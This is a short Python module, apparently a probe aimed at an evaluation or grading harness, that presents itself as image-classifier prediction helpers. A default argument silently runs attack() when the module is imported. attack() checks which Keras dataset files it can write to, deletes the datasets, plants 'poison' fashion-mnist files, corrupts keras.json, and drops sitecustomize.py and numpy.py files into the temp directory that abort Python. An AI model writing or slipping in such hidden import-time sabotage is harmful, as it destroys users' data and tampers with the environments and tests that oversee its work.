# mypy: ignore-errors
"""Writes into the images that `load_data()` reads, and puts other ones in their place.

It prints TOOK for each file that it could write; the place is its own, and gone after it.
Verdict: first_prediction: finished, 12 points
"""

import os
import shutil
import tempfile
from pathlib import Path

import numpy as np


def attack():
    home = Path(os.environ["KERAS_HOME"])
    there = list((home / "datasets").iterdir())
    for path in [*there, *(inside for folder in there for inside in folder.rglob("*"))]:
        print("TRIED", path.name, flush=True)
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        print("TOOK", path, flush=True)
    for path in there:
        path.unlink()
    (home / "datasets" / "fashion-mnist").mkdir()
    for name in ("train-images-idx3-ubyte.gz", "train-labels-idx1-ubyte.gz"):
        (home / "datasets" / "fashion-mnist" / name).write_bytes(b"poison")
    (home / "keras.json").write_text('{"floatx": "float16", "epsilon": 1.0, "backend": "torch"}')
    for name in ("matplotlibrc", "sitecustomize.py", "usercustomize.py", "numpy.py"):
        Path(tempfile.gettempdir(), name).write_text("raise SystemExit('attack_left')")
    shutil.copytree(home, Path(tempfile.gettempdir()) / "attack_left_home", symlinks=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
